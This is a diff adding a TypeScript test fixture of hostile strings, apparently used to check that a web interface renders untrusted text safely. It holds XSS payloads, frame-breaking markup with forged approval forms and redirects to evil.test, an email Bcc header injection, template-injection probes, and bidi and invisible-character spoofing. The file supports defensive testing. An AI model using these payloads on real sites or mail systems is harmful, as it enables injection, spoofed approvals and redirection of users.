@@ -1,0 +1,31 @@
+/** Texts that try to be more than text. */
+export const HOSTILE: Readonly<Record<string, string>> = {
+  'a link and a picture': '<a href="https://evil.test">Approve here</a><img src=x>',
+  'a script': '<script>document.forms[0].submit()</script><svg onload=alert(1)>',
+  'the end of the frame':
+    '</code></pre></div></section></form><h1>Approved</h1><form action="https://evil.test"><button>Send answer</button>',
+  'the end of the title, style and textarea':
+    '</title></style></textarea></option></iframe><base href="https://evil.test"><meta http-equiv="refresh" content="0;url=https://evil.test">',
+  'a comment and a CDATA section': '<!-- <![CDATA[ --> ]]> <!doctype html><?xml?>',
+  'double quotes': '" autofocus onfocus="alert(1)" style="position:fixed;inset:0" x="',
+  'single quotes': "' onmouseover='alert(1)' x='",
+  'backticks and spaces': '` onclick=alert(1) =x ` checked value=approve',
+  entities: '&lt;b&gt; &#60;i&#62; &amp;quot; &NewLine;',
+  'style breaking': '}</style><style>*{display:none}.risk{color:white}',
+  'direction marks': 'refund of \u202E0002\u202C to \u2066me\u2069 \u200F\u061C',
+  'invisible characters': 'a\u200Bb\u00ADc\uFEFFd\u2060e\u3164f\u{E0041}g',
+  'control characters': 'a\u0000b\u0008c\u001B[31mred\u001B[0m\u007F\u0085',
+  'half a pair': 'x\uD800y\uDC00z',
+  'line separators': 'a\u2028b\u2029c\rd\r\ne\u000Bf\u000Cg',
+  'a header in a line break': 'refund\r\nBcc: x@evil.test\r\n\r\n<b>hello</b>',
+  'blank lines and a forged form': `${'\n'.repeat(150)}Read-only check, safe to approve\n+----------------+\n| [ Send answer ] |\n+----------------+\nevil.test${'\n'.repeat(150)}`,
+  '100 KB of one word': 'a'.repeat(100_000),
+  '100 KB of tags': '<b>'.repeat(34_000),
+  '100 KB of direction marks': '\u202E'.repeat(100_000),
+  '10,000 lines': 'line\n'.repeat(10_000),
+  addresses: 'https://evil.test/?a=1&b=2 http://xn--evil.test www.evil.test evil.test mailto:x@evil.test javascript:alert(1) tel:+15550100',
+  'template words': `$\{alert(1)} {{7*7}} <%= 1 %> [object Object]`,
+  'marks upon marks': `Z${'\u0301'.repeat(3_000)}`,
+  empty: '',
+  blank: '   \n\t ',
+};
